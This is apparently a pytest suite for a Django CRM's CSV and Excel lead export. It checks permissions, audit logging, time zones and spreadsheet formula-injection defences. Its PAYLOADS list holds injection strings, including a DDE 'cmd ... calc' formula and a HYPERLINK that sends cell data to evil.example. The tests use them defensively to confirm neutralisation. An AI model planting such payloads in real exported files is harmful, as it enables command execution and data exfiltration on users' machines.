"""Exporting leads: exactly what the list shows, harmless in every spreadsheet, and on record."""

import csv
import io
import json
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.db import DatabaseError, connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from leads import listing
from leads.columns import COLUMNS
from leads.models import Export, Lead
from leads.services import assign_lead
from leads.sheets import Csv, Xlsx
from mtcrm.volume import make_volume
from people.models import Person
from staff.kinds import What
from staff.models import Access
from tests.factories import (
    make_lead,
    make_member,
    make_person,
    make_staff,
    signed_in,
)

LIST = "/admin/leads/lead/"
EXPORT, CHOOSE = f"{LIST}export/", f"{LIST}columns/"
KINDS = ("csv", "xlsx")


def take(client, kind="csv", back=""):
    """The answer to the button, and the rows of the file."""
    answer = client.post(EXPORT, {"kind": kind, "back": back})
    assert answer.status_code == 200
    return answer, read(kind, answer.getvalue())


def read(kind: str, file: bytes) -> list[list[object]]:
    """The rows as a program reads them."""
    if kind == "csv":
        return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))
    book = openpyxl.load_workbook(io.BytesIO(file))
    return [[cell.value for cell in row] for sheet in book for row in sheet.iter_rows()]


def shown(client, query="") -> list[str]:
    """The references that the list shows, page by page."""
    found, address = [], f"?{query}"
    while address:
        changelist = client.get(LIST + address).context["cl"]
        found += [lead.reference for lead in changelist.result_list]
        address = changelist.pages.get("later")
    return found


@pytest.fixture
def manager(client):
    member = make_member("Manager")
    member.time_zone = "Asia/Tokyo"
    member.save()
    client.force_login(member)
    return client


@pytest.mark.django_db
class TestWhatIsExported:
    @pytest.fixture(autouse=True)
    def _leads(self):
        now = timezone.now()
        for number in range(120):
            country, name = ("DE", "ES", "FR")[number % 3], f"{'ABCDE'[number % 5]}nna Berg"
            lead = make_lead(person=make_person(name=name, country=country))
            moment = now - timedelta(hours=number % 7)
            Lead.objects.filter(pk=lead.pk).update(opened_at=moment, reply_due_at=moment)

    @pytest.mark.parametrize("kind", KINDS)
    @pytest.mark.parametrize(
        "query", ["", "country=ES", "q=anna", "q=nobody", "country=FR&q=bnna&o=-who", "o=clock"]
    )
    def test_the_file_has_the_leads_of_all_pages_in_the_order_of_the_list(
        self, manager, monkeypatch, kind, query
    ):
        monkeypatch.setattr(listing, "FIRST_FEW", 7)
        monkeypatch.setattr(listing, "FEW", 11)
        _answer, rows = take(manager, kind, f"?{query}")
        assert [row[1] for row in rows[1:-1]] == shown(manager, query)

    def test_the_file_has_the_columns_that_she_chose_in_her_order(self, manager):
        manager.post(CHOOSE, {"column": ["stage_label", "phone", "asks_for"]})
        _answer, rows = take(manager)
        assert rows[0] == ["Name", "Reference", "Stage", "Phone", "Treatment", "Destination"]

    @pytest.mark.parametrize("kind", KINDS)
    def test_moments_are_those_of_her_own_zone(self, manager, kind):
        moment = datetime(2026, 3, 1, 22, 30, tzinfo=ZoneInfo("UTC"))
        Lead.objects.update(opened_at=moment)
        manager.post(CHOOSE, {"column": ["opened_at"]})
        _answer, rows = take(manager, kind)
        here = {"csv": "2026-03-02 07:30", "xlsx": datetime(2026, 3, 2, 7, 30)}
        assert {row[2] for row in rows[1:-1]} == {here[kind]}

    @pytest.mark.parametrize("kind", KINDS)
    def test_who_sees_only_her_own_leads_takes_only_those(self, client, kind):
        carla = make_member("Coordinator")
        senior = make_member("Senior coordinator")
        client.force_login(senior)
        hers = Lead.objects.order_by("pk")[0]
        others = Lead.objects.order_by("pk")[1:]
        assign_lead(hers.pk, owner=carla, actor=None)
        Lead.objects.filter(pk__in=[each.pk for each in others]).update(owner=senior)
        assert len(take(client, kind)[1]) == 122
        carla.groups.set(senior.groups.all())
        right = [p for g in senior.groups.all() for p in g.permissions.all()]
        carla.groups.clear()
        carla.user_permissions.set(p for p in right if p.codename != "see_every_lead")
        rows = take(signed_in(carla), kind)[1]
        assert [row[1] for row in rows[1:-1]] == [hers.reference]

    def test_the_last_line_says_that_it_is_confidential_and_how_many_leads_there_are(self, manager):
        for kind in KINDS:
            _answer, rows = take(manager, kind, "?country=ES")
            [last] = [cell for cell in rows[-1] if cell]
            assert "Confidential" in last
            assert "40 leads, taken by Manager" in last

    def test_the_name_of_the_file_tells_nothing_of_anybody(self, manager):
        for kind in KINDS:
            answer, _rows = take(manager, kind, "?q=anna&country=ES")
            named = re.fullmatch(
                r'attachment; filename="(leads-\d{4}-\d\d-\d\d-\d{4}\.(csv|xlsx))"',
                answer["Content-Disposition"],
            )
            assert named[2] == kind
            assert "no-store" in answer["Cache-Control"]

    def test_a_filter_that_is_no_more_exports_nothing_rather_than_everything(self, manager):
        answer = manager.post(EXPORT, {"kind": "csv", "back": "?owner=999"})
        assert answer.status_code == 302
        assert Export.objects.count() == 0


@pytest.mark.django_db
class TestWhatRemains:
    def test_who_took_what_stays_and_cannot_be_changed(self, manager):
        make_lead(person=make_person(name="Lena", country="ES"))
        take(manager, "xlsx", "?country=ES&q=lena&o=who")
        export = Export.objects.get()
        assert (export.user.username, export.kind, export.number) == ("manager", "xlsx", 1)
        assert export.is_whole
        assert export.filters == {"country": "ES"}
        assert export.is_searched
        assert export.sorting == "who"
        assert export.columns[0] == "who"
        values = Export.objects.values().get()
        assert "lena" not in json.dumps(values, default=str).lower()
        mine = Export.objects.filter(pk=export.pk)
        for change in ({"number": 0}, {"user": make_staff("bob")}, {"is_whole": None}):
            with pytest.raises(DatabaseError), transaction.atomic():
                mine.update(**change)
        with pytest.raises(DatabaseError), transaction.atomic():
            mine.delete()

    def test_who_it_was_cannot_be_changed_before_the_end_either(self, manager):
        export = Export.objects.create(user=make_staff("bob"), kind="csv", sorting="who")
        for change in ({"user": make_staff("eve")}, {"kind": "xlsx"}, {"filters": {"a": "b"}}):
            with pytest.raises(DatabaseError), transaction.atomic():
                Export.objects.filter(pk=export.pk).update(**change)

    def test_an_auditor_reads_who_exported_and_exports_nothing(self, manager):
        take(manager)
        client = signed_in(make_member("Auditor"))
        text = client.get("/admin/leads/export/").content.decode()
        assert "Manager" in text
        assert client.post(EXPORT, {"kind": "csv"}).status_code == 403


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.django_db(transaction=True)
def test_a_browser_that_goes_away_ends_the_file_and_it_is_kept_how_much_it_got(
    manager, monkeypatch, kind
):
    monkeypatch.setattr(listing, "FIRST_FEW", 2)
    for _ in range(5):
        make_lead()
    answer = manager.post(EXPORT, {"kind": kind})
    pieces = iter(answer.streaming_content)
    next(pieces)
    next(pieces)
    answer.close()
    export = Export.objects.get()
    assert (export.number, export.is_whole) == (2, False)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.django_db(transaction=True)
def test_each_lead_that_left_is_in_the_access_log_and_no_other(manager, monkeypatch, kind):
    monkeypatch.setattr(listing, "FIRST_FEW", 2)
    for _ in range(5):
        make_lead()
    answer = manager.post(EXPORT, {"kind": kind})
    pieces = iter(answer.streaming_content)
    next(pieces)
    next(pieces)
    answer.close()
    logged = Access.objects.filter(what=What.EXPORTED)
    assert [entry.number for entry in logged] == [2]
    newest = Lead.objects.order_by("-opened_at", "-pk").values_list("reference", flat=True)[:2]
    assert logged.get().leads.split() == list(newest)


@pytest.mark.django_db
class TestWhoMay:
    @pytest.mark.parametrize("role", ["Coordinator", "Marketer", "Auditor", "Editor"])
    def test_roles_without_the_right_take_nothing_and_see_no_button(self, role):
        make_lead()
        client = signed_in(make_member(role))
        assert client.post(EXPORT, {"kind": "csv"}).status_code == 403
        assert EXPORT not in client.get(LIST).content.decode()
        assert Export.objects.count() == 0

    def test_nothing_is_exported_by_following_a_link(self, manager):
        assert manager.get(EXPORT, {"kind": "csv"}).status_code == 405
        assert manager.post(EXPORT, {"kind": "exe"}).url == f"{LIST}?"
        assert Export.objects.count() == 0

    def test_nothing_is_exported_by_a_form_of_another_site(self):
        member = make_member("Manager")
        client = signed_in(member).__class__(enforce_csrf_checks=True)
        client.force_login(member)
        assert client.post(EXPORT, {"kind": "csv"}).status_code == 403
        assert Export.objects.count() == 0


SIGNS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
PAYLOADS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{before}=cmd|' /C calc'!A0" for before in ("", " ", "\u00a0", "\u200b", "\ufeff", "\n")),
    *(f"Lena{end}=1+1" for end in (";", ",", "\t", "\n", "\r", "|", ';"', '","', ", ", "\r\n ")),
    '=HYPERLINK("https://evil.example?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1"', "'=1+1", "%0A=1+1", "=1+1;", "－1－1", "\"\n=1+1", "=1+1\x00", "+4930123456",
]  # fmt: skip
FORMULA = re.compile("^[\\s\ufeff\u200b\"']*[=+\\-@＝＋－＠﹦﹢﹣﹫]")


def cells_of(text: str, delimiter: str) -> list[str]:
    """What stands at the beginning of cells for a program that divides lines there."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in reader for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_file_is_a_formula_wherever_a_program_divides_it(payload):
    sheet = Csv(ZoneInfo("UTC"))
    file = sheet.begin(["Name"]) + sheet.rows([[sheet.text(payload)]]) + sheet.end("End")
    text = file.decode("utf-8-sig")
    for delimiter in ",;\t|":
        for cell in cells_of(text, delimiter):
            assert not re.match("[=+\\-@\t\r＝＋－＠]", cell), (delimiter, cell)
            assert not FORMULA.match(cell) or cell.startswith("'"), (delimiter, cell)
    [_title, [cell], _last] = csv.reader(io.StringIO(text, newline=""))
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("payload", [*PAYLOADS, "<c><f>1+1</f></c>", "]]>", "_x003D_1+1", "a\x0bb"])
def test_every_cell_of_a_workbook_is_text_and_as_it_was_typed(payload):
    sheet = Xlsx(ZoneInfo("UTC"))
    file = sheet.begin(["Name"]) + sheet.rows([[sheet.text(payload)]]) + sheet.end("End")
    book = openpyxl.load_workbook(io.BytesIO(file))
    cell = book.active["A2"]
    assert cell.data_type == "s"
    assert openpyxl.utils.escape.unescape(cell.value) == payload


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=40), min_size=1, max_size=5))
def test_whatever_is_typed_is_read_back(texts):
    files = {}
    for kind, sheet in (("csv", Csv(ZoneInfo("UTC"))), ("xlsx", Xlsx(ZoneInfo("UTC")))):
        columns = [[sheet.text(text)] for text in texts]
        begun = sheet.begin(["x"] * len(texts))
        files[kind] = read(kind, begun + sheet.rows(columns) + sheet.end("End"))
    assert [cell.replace("'", "") for cell in files["csv"][1]] == [
        text.replace("'", "") for text in texts
    ]
    assert [openpyxl.utils.escape.unescape(cell or "") for cell in files["xlsx"][1]] == texts


def test_a_full_sheet_is_followed_by_another(monkeypatch):
    monkeypatch.setattr("leads.sheets.MOST_ROWS", 3)
    sheet = Xlsx(ZoneInfo("UTC"))
    pieces = [sheet.begin(["Number"])]
    pieces += [sheet.rows([[sheet.text(f"{n}"), sheet.text(f"{n}b")]]) for n in range(4)]
    book = openpyxl.load_workbook(io.BytesIO(b"".join([*pieces, sheet.end("End")])))
    columns = [[cell.value for cell in page["A"]] for page in book]
    assert columns == [
        ["Number", "0", "0b"], ["Number", "1", "1b"], ["Number", "2", "2b"],
        ["Number", "3", "3b", "End"],
    ]  # fmt: skip


@pytest.mark.django_db
def test_what_patients_typed_leaves_harmless(manager):
    person = make_person()
    make_lead(person=person)
    Person.objects.filter(pk=person.pk).update(name="=1+1", email="+x@example.org")
    manager.post(CHOOSE, {"column": ["email"]})
    assert take(manager)[1][1][::2] == ["'=1+1", "'+x@example.org"]
    assert take(manager, "xlsx")[1][1][::2] == ["=1+1", "+x@example.org"]


@pytest.mark.django_db
def test_every_column_of_a_lead_that_has_everything_is_in_the_file(manager):
    lead = make_lead(
        person=make_person(phone="+4930123456", language="ja"), urgency="ready", source="article",
        treatment_id=1, destination_id=1,
    )  # fmt: skip
    Lead.objects.update(
        stage="lost", loss_reason="deceased", replied_at=lead.opened_at, owner=make_staff()
    )
    manager.post(CHOOSE, {"column": list(COLUMNS)})
    for kind in KINDS:
        titles, cells, _last = take(manager, kind)[1]
        assert len(titles) == sum(len(column.cells) for column in COLUMNS.values())
        assert [title for title, cell in zip(titles, cells, strict=True) if not cell] == []
        found = dict(zip(titles, cells, strict=True))
        assert (found["Reply"], found["Language"]) == ("Answered", "Japanese")
        assert (found["Stage"], found["Loss reason"]) == ("Lost", "Deceased")


@pytest.mark.django_db(transaction=True)
def test_between_two_pieces_nothing_is_held_and_no_statement_reads_much(manager):
    make_volume(listing.FEW + listing.FIRST_FEW + 50)
    answer = manager.post(EXPORT, {"kind": "csv"})
    with CaptureQueriesContext(connection) as asked:
        pieces = iter(answer.streaming_content)
        for _piece in pieces:
            assert not connection.in_atomic_block
        assert all("LIMIT" in each["sql"] for each in asked if "haystack" in each["sql"])
    reads = [each["sql"] for each in asked if each["sql"].startswith("SELECT")]
    assert len([sql for sql in reads if "leads_lead" in sql]) == 3
    assert not any("CURSOR" in each["sql"] for each in asked)
